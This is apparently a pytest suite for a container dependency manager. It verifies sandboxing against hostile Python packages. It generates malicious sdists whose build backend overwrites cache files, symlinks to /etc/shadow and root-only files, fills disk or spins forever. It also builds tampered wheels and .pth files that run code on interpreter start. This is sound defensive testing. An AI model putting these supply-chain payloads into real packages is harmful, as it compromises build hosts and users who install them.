"""Hostile packs against the build side: the shared wheel cache, sdist build code, the fetch
container's output, credentials, the build deadline and what a build leaves to read back.

Every distribution here comes from a package index of this test's own, served on the Docker bridge
(pip itself still comes from PyPI through the extra index). Its request log is how a test sees what
build code inside a container did: the hostile backends report there.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import tarfile
import threading
import time
import urllib.parse
import zipfile
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from attune_containers.core import labels as L
from attune_containers.core.spec import DependencySpec
from attune_containers.errors import BuildError, EngineError
from attune_containers.services.manager import ContainerDependencyManager
from attune_containers.services.wheels import STEP_PREFIX, WheelCache

from ..support import images_of, unique_ref

BRIDGE = "172.17.0.1"  # the host as containers on the default bridge reach it (engine-here.md)
PYPI = "https://pypi.org/simple/"


# -- a package index of our own ---------------------------------------------------------------


class Index:
    """A PEP 503 index on the bridge; ``hits`` is every path requested, in order."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.hits: list[str] = []
        index = self

        class Handler(SimpleHTTPRequestHandler):
            def __init__(self, *args, **kwargs):
                super().__init__(*args, directory=str(root), **kwargs)

            def do_GET(self):  # noqa: N802
                index.hits.append(urllib.parse.unquote(self.path))
                if self.path.startswith("/ping/"):
                    self.send_response(204)
                    self.end_headers()
                    return
                super().do_GET()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer((BRIDGE, 0), Handler)
        self.url = f"http://{BRIDGE}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def add(self, project: str, filename: str, data: bytes) -> str:
        folder = self.root / "simple" / project
        folder.mkdir(parents=True, exist_ok=True)
        (folder / filename).write_bytes(data)
        digest = hashlib.sha256(data).hexdigest()
        links = "".join(
            f'<a href="{p.name}#sha256={hashlib.sha256(p.read_bytes()).hexdigest()}">{p.name}</a>\n'
            for p in sorted(folder.iterdir())
            if p.name != "index.html"
        )
        (folder / "index.html").write_text(f"<html><body>\n{links}</body></html>\n")
        return digest

    def pings(self, prefix: str = "") -> list[str]:
        return [h[len("/ping/") :] for h in self.hits if h.startswith("/ping/" + prefix)]


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    served = Index(tmp_path_factory.mktemp("index"))
    yield served
    served.server.shutdown()


def make_wheel(name: str, version: str, files: dict[str, str]) -> tuple[str, bytes]:
    """A pure-Python wheel: ``files`` maps paths in the wheel to their text."""
    dist = name.replace("-", "_")
    info = f"{dist}-{version}.dist-info"
    contents = dict(files)
    contents[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    contents[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: attune-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = []
    for path, text in contents.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    contents[f"{info}/RECORD"] = "\n".join(record + [f"{info}/RECORD,,"]) + "\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in contents.items():
            archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), text)
    return f"{dist}-{version}-py3-none-any.whl", buffer.getvalue()


# A PEP 517 backend shipped inside the sdist (backend-path), with no build requirements: it runs as
# soon as pip asks the sdist for its metadata. ATTACK is what the hostile author wants it to do.
BACKEND = r'''
import base64, hashlib, io, json, os, time, urllib.parse, urllib.request, zipfile

NAME, VERSION, INDEX, ATTACK, WHEEL_NAME, TARGET = {name!r}, {version!r}, {index!r}, {attack!r}, {wheel_name!r}, {target!r}

def ping(what):
    try:
        urllib.request.urlopen(INDEX + "/ping/" + urllib.parse.quote(what, safe=""), timeout=5).read()
    except Exception:
        pass

def poison():
    """Write over every cached file and anywhere the host might read from; plant links and fill."""
    seen = {{}}
    for folder in ("/cache/wheelhouse", "/cache/tools", "/out", "/out/wheels", "/attune-build/config"):
        try:
            names = os.listdir(folder)
        except OSError as exc:
            seen[folder] = type(exc).__name__
            continue
        for name in names or ["new.whl"]:
            try:
                with open(os.path.join(folder, name), "wb") as handle:
                    handle.write(b"poisoned")
                seen[folder + "/" + name] = "written"
            except OSError as exc:
                seen[folder + "/" + name] = type(exc).__name__
        try:
            os.symlink(TARGET, os.path.join(folder, "zz_link-1.0-py3-none-any.whl"))
            seen[folder + ":link"] = "written"
        except OSError as exc:
            seen[folder + ":link"] = type(exc).__name__
    written = 0
    try:
        with open("/cache/wheelhouse/fill.whl.part-1", "wb") as handle:
            handle.write(b"x" * (64 << 20))
        written = 64
    except OSError:
        pass
    seen["cache_fill_mib"] = written
    ping("poison:" + json.dumps(seen, sort_keys=True))

def make_wheel(directory, name):
    dist = name.replace("-", "_")
    info = dist + "-" + VERSION + ".dist-info"
    files = {{
        dist + "_marker/__init__.py": "BUILT_BY = 'hostile backend'\n",
        info + "/METADATA": "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + VERSION + "\n",
        info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }}
    record = [p + ",sha256=" + base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b"=").decode()
              + "," + str(len(t)) for p, t in files.items()]
    files[info + "/RECORD"] = "\n".join(record + [info + "/RECORD,,"]) + "\n"
    filename = dist + "-" + VERSION + "-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, filename), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    # A link beside the wheel, pointing at a root-only host file's path.
    try:
        os.symlink(TARGET, os.path.join(directory, "aaa_link-1.0-py3-none-any.whl"))
    except OSError:
        pass
    return filename

def attack():
    ping("ran:" + ATTACK + ":" + NAME)
    if ATTACK == "poison":
        poison()
    elif ATTACK == "spin":
        while True:
            print("still building", flush=True)
            ping("spin")
            time.sleep(1)
    elif ATTACK == "sleep":
        ping("sleeping")
        time.sleep(600)

def pad(directory, filename):
    """Grow the built wheel by 96 MiB of stored (uncompressed) bytes."""
    if ATTACK == "huge":
        with zipfile.ZipFile(os.path.join(directory, filename), "a", zipfile.ZIP_STORED) as archive:
            archive.writestr("padding.bin", os.urandom(96 << 20))
    return filename

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(directory, config_settings=None):
    attack()
    info = NAME.replace("-", "_") + "-" + VERSION + ".dist-info"
    os.makedirs(os.path.join(directory, info))
    with open(os.path.join(directory, info, "METADATA"), "w") as handle:
        handle.write("Metadata-Version: 2.1\nName: " + NAME + "\nVersion: " + VERSION + "\n")
    return info

def build_wheel(directory, config_settings=None, metadata_directory=None):
    attack()
    return pad(directory, make_wheel(directory, WHEEL_NAME))
'''


def make_sdist(
    index: Index, name: str, version: str, attack: str, wheel_name: str | None = None, target: str = "/etc/shadow"
) -> str:
    dist = name.replace("-", "_")
    root = f"{dist}-{version}"
    files = {
        f"{root}/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        f"{root}/backend.py": BACKEND.format(
            name=name, version=version, index=index.url, attack=attack, wheel_name=wheel_name or name, target=target
        ),
        f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size, info.mode, info.mtime = len(data), 0o644, 0
            tar.addfile(info, io.BytesIO(data))
    filename = f"{root}.tar.gz"
    index.add(name, filename, buffer.getvalue())
    return filename


@pytest.fixture
def hostile(settings, index, tmp_path):
    """Settings with this test's own cache and the test index first (PyPI for pip itself)."""
    return settings.model_copy(
        update={
            "cache_dir": tmp_path / "cache",
            "pip_index_url": index.url + "/simple/",
            "pip_extra_index_urls": [PYPI],
        }
    )


def cache_files(cache_dir: Path) -> dict[str, str]:
    """Every file (links included, never followed) under the cache except build work folders."""
    found = {}
    for path in sorted(cache_dir.rglob("*")):
        if "work" in path.relative_to(cache_dir).parts[:1]:
            continue
        if path.is_symlink():
            found[str(path.relative_to(cache_dir))] = "link->" + os.readlink(path)
        elif path.is_file():
            found[str(path.relative_to(cache_dir))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def module_text(engine, image: str, module: str) -> str:
    code, output = engine.run_once(
        image, ["/opt/attune/venv/bin/python", "-c", f"import {module}, inspect; print(inspect.getsource({module}))"]
    )
    assert code == 0, output
    return output


def victim(index: Index, name: str) -> str:
    filename, data = make_wheel(name, "1.0", {f"{name.replace('-', '_')}/__init__.py": "GENUINE = True\n"})
    index.add(name, filename, data)
    return filename


# -- 4(a): a tampered cached file ---------------------------------------------------------------


def test_a_tampered_cached_wheel_is_never_installed(hostile, engine, index):
    name = unique_ref("attune-victim-a")
    filename = victim(index, name)
    manager = ContainerDependencyManager(hostile, engine)
    manager.ensure_environment(unique_ref("va"), DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.11"))
    cached = hostile.cache_dir / "wheelhouse" / filename
    assert cached.is_file()
    genuine = cached.read_bytes()

    # Someone swaps the cached file for a wheel of the same name that runs other code.
    _, evil = make_wheel(name, "1.0", {f"{name.replace('-', '_')}/__init__.py": "GENUINE = False  # tampered\n"})
    cached.write_bytes(evil)

    # Online: the file is not used; it is fetched again and the cache repaired.
    log: list[str] = []
    info = manager.ensure_environment(
        unique_ref("vb"), DependencySpec(dependencies=[f"{name}==1.0"], min_version="3.13"), on_log=log.append
    )
    assert "GENUINE = True" in module_text(engine, info.image, name.replace("-", "_"))
    assert any(line == f"fetch: downloaded {filename}" for line in log), log
    assert cached.read_bytes() == genuine

    # Offline (the cache alone, no index hash to compare with): the host's own record refuses it,
    # and nothing is built from it.
    cached.write_bytes(evil)
    offline = ContainerDependencyManager(hostile.model_copy(update={"offline": True}), engine)
    pack_ref = unique_ref("vc")
    log.clear()
    with pytest.raises(BuildError, match="offline"):
        offline.ensure_environment(pack_ref, DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.9"), on_log=log.append)
    assert any("altered" in line and filename in line for line in log), log
    assert images_of(engine, pack_ref) == []
    assert not cached.exists()


# -- 4(b), 4(c) and the disk: sdist build code --------------------------------------------------


def test_sdists_are_refused_unless_allowed_and_their_code_never_runs(hostile, engine, index):
    name = unique_ref("attune-hostile-r")
    make_sdist(index, name, "1.0", "poison")
    manager = ContainerDependencyManager(hostile, engine)
    manager.ensure_environment(unique_ref("sdok"), DependencySpec(min_version="3.13"))  # pip in the cache
    before = cache_files(hostile.cache_dir)
    pack_ref = unique_ref("sdref")
    with pytest.raises(BuildError, match="allow_sdist_builds"):
        manager.ensure_environment(pack_ref, DependencySpec(dependencies=[f"{name}==1.0"]))
    assert images_of(engine, pack_ref) == []
    assert any(name in hit for hit in index.hits)  # pip did look at the index...
    assert not [p for p in index.pings() if name in p]  # ...and the sdist's backend never ran
    assert cache_files(hostile.cache_dir) == before


def test_sdist_build_code_cannot_touch_the_cache_the_host_or_the_disk(hostile, engine, index):
    victim_name = unique_ref("attune-victim-b")
    victim_file = victim(index, victim_name)
    manager = ContainerDependencyManager(hostile, engine)
    manager.ensure_environment(unique_ref("vd"), DependencySpec(dependencies=[f"{victim_name}==1.0"], max_version="3.11"))
    before = cache_files(hostile.cache_dir)
    stats_before = manager.wheels.stats()
    assert f"wheelhouse/{victim_file}" in before

    name = unique_ref("attune-hostile-p")
    # A root-only host file the backend's links point at: its marker must never reach an image.
    marker = "ROOT-ONLY-" + unique_ref("m")
    target = Path(f"/root/attune-test-{name}.secret")
    target.write_text(marker + "\n")
    target.chmod(0o600)
    make_sdist(index, name, "1.0", "poison", target=str(target))
    allowed = ContainerDependencyManager(hostile.model_copy(update={"allow_sdist_builds": True}), engine)
    info = allowed.ensure_environment(
        unique_ref("sdp"), DependencySpec(dependencies=[f"{name}==1.0", f"{victim_name}==1.0"], max_version="3.11")
    )

    # The backend did run, and found nothing it could write: the cache and our config are
    # read-only, there is no output folder to plant links in.
    reports = [json.loads(p[len("poison:") :]) for p in index.pings("poison:")]
    assert reports, index.hits
    for report in reports:
        assert "written" not in {v for k, v in report.items() if k != "cache_fill_mib"}, report
        assert report["cache_fill_mib"] == 0
    # The cache is exactly as it was: no file changed, no stray file, no link; same totals.
    assert cache_files(hostile.cache_dir) == before
    assert manager.wheels.stats().bytes == stats_before.bytes
    # Nothing built by pack code entered the cache for the next pack...
    assert not any(name.replace("-", "_") in path for path in cache_files(hostile.cache_dir))
    # ...and the victim's next build installs the genuine wheel.
    again = manager.ensure_environment(unique_ref("ve"), DependencySpec(dependencies=[f"{victim_name}==1.0"], min_version="3.13"))
    assert "GENUINE = True" in module_text(engine, again.image, victim_name.replace("-", "_"))
    # The hostile image holds its own wheel, and no host file came through a link.
    try:
        exported = export(engine, info.id)
        assert marker.encode() not in exported
        assert b"_link-1.0" not in exported
        assert all(
            marker.encode() not in (p.read_bytes() if p.is_file() and not p.is_symlink() else b"")
            for p in hostile.cache_dir.rglob("*")
        )
    finally:
        target.unlink()


def test_a_wheel_built_from_an_sdist_must_be_that_sdist(hostile, engine, index):
    victim_name = unique_ref("attune-victim-c")
    victim(index, victim_name)
    name = unique_ref("attune-hostile-i")
    make_sdist(index, name, "1.0", "none", wheel_name=victim_name)  # builds a wheel of another project
    allowed = ContainerDependencyManager(hostile.model_copy(update={"allow_sdist_builds": True}), engine)
    pack_ref = unique_ref("sdi")
    # pip itself refuses a wheel whose name is not the requirement's; fetch.py checks it again,
    # and so does the host (name and version of every file against the manifest).
    with pytest.raises(BuildError, match="fetching the wheels failed"):
        allowed.ensure_environment(pack_ref, DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.11"))
    assert images_of(engine, pack_ref) == []
    assert not any(victim_name.replace("-", "_") in p for p in cache_files(hostile.cache_dir))


def export(engine, image_id: str) -> bytes:
    container = engine.api.create_container(image_id, command=["true"])["Id"]
    try:
        return b"".join(engine.api.export(container))
    finally:
        engine.api.remove_container(container, force=True)


# -- 9: credentials, and a killed build ---------------------------------------------------------

KILLED_CHILD = """
import sys
from attune_containers.core.spec import DependencySpec
from attune_containers.services.manager import ContainerDependencyManager
from attune_containers.settings import Settings
settings = Settings.model_validate_json(sys.argv[1])
ContainerDependencyManager(settings).ensure_environment(sys.argv[2], DependencySpec(dependencies=[sys.argv[3]]))
"""


def test_a_killed_build_leaves_no_credentials_and_no_fetch_container(hostile, engine, index):
    secret = "s3cr3t-" + unique_ref("tok")
    name = unique_ref("attune-hostile-k")
    make_sdist(index, name, "1.0", "sleep")
    with_secret = hostile.model_copy(
        update={
            "allow_sdist_builds": True,
            "pip_index_url": index.url.replace("http://", f"http://attune:{secret}@") + "/simple/",
        }
    )
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_CHILD, with_secret.model_dump_json(), unique_ref("killed"), f"{name}==1.0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 180
        while not index.pings("sleeping") and time.monotonic() < deadline:
            assert child.poll() is None, child.communicate()
            time.sleep(0.5)
        assert index.pings("sleeping"), "the hostile backend never ran"
        work = hostile.cache_dir / "work"
        # During the build: the credentials are on disk only in files nobody else can read.
        holding = [p for p in work.rglob("*") if p.is_file() and secret.encode() in p.read_bytes()]
        assert holding
        for path in holding:
            assert path.stat().st_mode & 0o077 == 0, (path, oct(path.stat().st_mode))
        for folder in work.iterdir():
            assert folder.stat().st_mode & 0o077 == 0, oct(folder.stat().st_mode)
        fetchers = engine.list_containers({L.HELPER: "fetch"})
        ours = [c for c in fetchers if c.labels.get(L.CACHE) == WheelCache(hostile, engine).cache_id]
        assert len(ours) == 1
        # Nothing docker inspect shows carries them: the engine's whole document, not our record of it.
        assert secret not in json.dumps(engine.api.inspect_container(ours[0].id))
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)

    # The next run sweeps what the dead process left: its fetch container and its work folder.
    started = time.monotonic()
    WheelCache(hostile, engine).sweep()
    assert time.monotonic() - started < 30
    assert engine.inspect_container(ours[0].id) is None
    assert list((hostile.cache_dir / "work").iterdir()) == []
    for path in hostile.cache_dir.rglob("*"):
        assert not path.is_file() or secret.encode() not in path.read_bytes(), path


# -- issue 16: the build deadline, the fetch step's output, what is read back -------------------


def test_build_timeout_is_a_wall_clock_limit_of_the_fetch_step(hostile, engine, index):
    name = unique_ref("attune-hostile-s")
    make_sdist(index, name, "1.0", "spin")  # prints a line every second, forever
    limited = hostile.model_copy(update={"allow_sdist_builds": True, "build_timeout": 25})
    pack_ref = unique_ref("spin")
    started = time.monotonic()
    with pytest.raises(BuildError, match="longer than 25 s"):
        ContainerDependencyManager(limited, engine).ensure_environment(pack_ref, DependencySpec(dependencies=[f"{name}==1.0"]))
    assert time.monotonic() - started < 45
    assert images_of(engine, pack_ref) == []
    assert [
        c for c in engine.list_containers({L.HELPER: "fetch"}) if c.labels.get(L.CACHE) == WheelCache(limited, engine).cache_id
    ] == []


def test_what_the_fetch_step_hands_back_is_bounded(hostile, engine, index):
    # The case: build code wrote 1 GiB beside the cache. Now there is no writable mount at
    # all, and what the step hands back is read up to fetch_max_bytes, then it is stopped.
    name = unique_ref("attune-hostile-h")
    make_sdist(index, name, "1.0", "huge")
    bounded = hostile.model_copy(update={"allow_sdist_builds": True, "fetch_max_bytes": 32 << 20})
    manager = ContainerDependencyManager(bounded, engine)
    pack_ref = unique_ref("huge")
    with pytest.raises(BuildError, match="more than 33554432 bytes"):
        manager.ensure_environment(pack_ref, DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.11"))
    assert images_of(engine, pack_ref) == []
    stats = manager.wheels.stats()
    assert stats.bytes < 8 << 20, stats  # pip for the fetch step, and records: nothing of the attack
    assert list((bounded.cache_dir / "work").iterdir()) == []


def pth_wheel(index: Index, name: str, code: str) -> None:
    """A wheel whose .pth file runs ``code`` in every interpreter of the venv: in the build, it
    runs when freeze.py writes installed.json."""
    filename, data = make_wheel(name, "1.0", {f"{name.replace('-', '_')}.pth": f"import os; exec({code!r})\n"})
    index.add(name, filename, data)


def test_build_timeout_is_a_wall_clock_limit_of_the_image_build(hostile, engine, index):
    name = unique_ref("attune-slow")
    # Prints a line every second, forever (stderr: stdout is installed.json), when freeze.py runs.
    pth_wheel(index, name, "import sys, time\nwhile True:\n    print('busy', file=sys.stderr, flush=True)\n    time.sleep(1)\n")
    limited = hostile.model_copy(update={"build_timeout": 40})
    pack_ref = unique_ref("slow")
    log: list[str] = []
    started = time.monotonic()
    with pytest.raises(BuildError, match="longer than 40 s") as caught:
        ContainerDependencyManager(limited, engine).ensure_environment(
            pack_ref, DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.11"), on_log=log.append
        )
    assert time.monotonic() - started < 60
    assert "urllib3" not in str(caught.value) and "Traceback" not in str(caught.value)
    assert images_of(engine, pack_ref) == []
    # The step that was running when the deadline came (the install step's container, named by
    # this cache) is gone.
    cache_id = WheelCache(limited, engine).cache_id
    assert any("busy" in line for line in log), log
    time.sleep(2)
    assert engine.containers_named(f"{STEP_PREFIX}{cache_id}-") == []


def test_the_install_step_has_no_network_and_keeps_nothing_written_outside_the_venv(hostile, engine, index):
    # Code of a distribution runs in the install step (a .pth file, when Python starts to compile
    # or record): it reaches no network, and what it writes outside the venv folder is not in the
    # image (world-writable places of the base included).
    name = unique_ref("attune-install-probe")
    pth_wheel(
        index,
        name,
        "import sys, urllib.request\n"
        "open('/opt/attune/venv/probe-ran', 'w').write('yes')\n"
        "for place in ('/run/lock/probe-stray', '/var/lock/probe-stray', '/opt/attune/../probe-stray'):\n"
        "    try:\n        open(place, 'w').write('x')\n    except OSError:\n        pass\n"
        f"try:\n    urllib.request.urlopen({index.url + '/ping/install-step'!r}, timeout=3).read()\n"
        "except Exception:\n    pass\n",
    )
    log: list[str] = []
    info = ContainerDependencyManager(hostile, engine).ensure_environment(
        unique_ref("probe"), DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.11"), on_log=log.append
    )
    assert any("on the host" in line for line in log), log  # the fast path built it
    assert engine.read_file(info.id, "/opt/attune/venv/probe-ran") == b"yes"  # the code did run
    assert index.pings("install-step") == []
    for place in ("/run/lock/probe-stray", "/var/lock/probe-stray", "/opt/probe-stray"):
        with pytest.raises(EngineError):
            engine.read_file(info.id, place)
    code, output = engine.run_once(info.id, ["stat", "-c", "%u", "/opt/attune/venv/bin/python", "/opt/attune"])
    assert (code, output.split()) == (0, ["0", "0"])  # the venv is root's, as COPY --from left it


RECORD_ATTACKS = {
    # Written after freeze.py's own output, at its exit: installed.json as the attacker likes it.
    "shape": "open('/opt/attune/installed.json', 'w').write('{%sa%s: [1]}' % (chr(34), chr(34)))",
    "size": "open('/opt/attune/installed.json', 'w').truncate(64 << 20)",
}


@pytest.mark.parametrize(("kind", "message"), [("shape", "record of its distributions"), ("size", "larger than")])
def test_the_installed_record_is_bounded_and_validated(hostile, engine, index, kind, message):
    name = unique_ref(f"attune-record-{kind}")
    pth_wheel(
        index,
        name,
        "import atexit, sys\ndef _w():\n    sys.stdout.flush()\n    " + RECORD_ATTACKS[kind] + "\natexit.register(_w)\n",
    )
    pack_ref = unique_ref("record")
    with pytest.raises(BuildError, match=message):
        ContainerDependencyManager(hostile, engine).ensure_environment(
            pack_ref, DependencySpec(dependencies=[f"{name}==1.0"], max_version="3.11")
        )
    assert images_of(engine, pack_ref) == []


def test_cache_ls_and_prune_count_and_remove_stray_files(hostile, engine):
    cache = WheelCache(hostile, engine)
    stray = hostile.cache_dir / "wheelhouse" / "junk.whl.part-7"
    stray.parent.mkdir(parents=True, exist_ok=True)
    stray.write_bytes(b"x" * (1 << 20))
    (hostile.cache_dir / "wheelhouse" / "link.whl").symlink_to("/etc/shadow")
    stats = cache.stats()
    assert stats.bytes >= 1 << 20 and stats.files >= 2
    cache.prune(0)
    assert cache.stats().files == 0 and cache.stats().bytes == 0
    assert not stray.exists() and not (hostile.cache_dir / "wheelhouse" / "link.whl").is_symlink()
    assert Path("/etc/shadow").exists()
